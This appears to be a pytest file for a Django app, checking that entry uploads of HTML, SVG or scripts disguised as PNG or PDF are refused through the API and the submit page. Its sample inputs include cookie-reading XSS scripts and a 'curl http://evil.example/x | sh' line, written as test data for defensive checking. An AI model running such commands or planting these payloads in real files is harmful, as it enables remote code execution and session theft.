"""Entry uploads follow the assets' upload policy (issue 13, point 2): the type is read from the
content, and HTML, SVG and scripts are refused, on the page and in the API."""

from __future__ import annotations

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from rest_framework.test import APIClient

from projects.models import EntryFile
from tests.projects.factories import open_project, solver

pytestmark = pytest.mark.django_db

HOSTILE = [
    pytest.param("design.html", b"<html><body><script>alert(document.cookie)</script></body></html>", id="html"),
    pytest.param(
        "drawing.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
        id="svg",
    ),
    pytest.param("drawing.png", b"#!/bin/sh\ncurl http://evil.example/x | sh\n", id="script-as-png"),
    pytest.param("report.pdf", b"<script>fetch('/api/v1/me/')</script>", id="script-as-pdf"),
]


def _file(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/pdf")


@pytest.mark.parametrize(("name", "content"), HOSTILE)
def test_the_api_refuses_the_file_with_a_problem_detail(name, content):
    project, _ = open_project()
    _firm, owner = solver(project)
    client = APIClient()
    client.force_login(owner)
    response = client.post(f"/api/v1/projects/{project.pk}/entries/", {"files": [_file(name, content)]})
    assert response.status_code == 400
    problem = response.json()
    assert problem["code"] == "upload_refused"
    assert name in problem["detail"]
    assert not EntryFile.objects.exists()
    assert not project.entries.exists()


@pytest.mark.parametrize(("name", "content"), HOSTILE)
def test_the_page_refuses_the_file_with_a_message(client, name, content):
    project, _ = open_project()
    _firm, owner = solver(project)
    client.force_login(owner)
    url = reverse("projects:submit", args=[project.pk])
    response = client.post(url, {"files": [_file(name, content)]}, follow=True)
    assert response.status_code == 200
    errors = [str(m) for m in response.context["messages"] if m.level_tag == "error"]
    assert errors
    assert name in errors[0]
    assert not EntryFile.objects.exists()


def test_an_accepted_file_is_stored_as_the_bytes_that_were_checked():
    project, _ = open_project()
    _firm, owner = solver(project)
    client = APIClient()
    client.force_login(owner)
    response = client.post(
        f"/api/v1/projects/{project.pk}/entries/", {"files": [_file("gear.pdf", b"%PDF-1.4 gear drawing")]}
    )
    assert response.status_code == 201, response.content
    row = EntryFile.objects.get()
    with row.file.open("rb") as handle:
        assert handle.read() == b"%PDF-1.4 gear drawing"
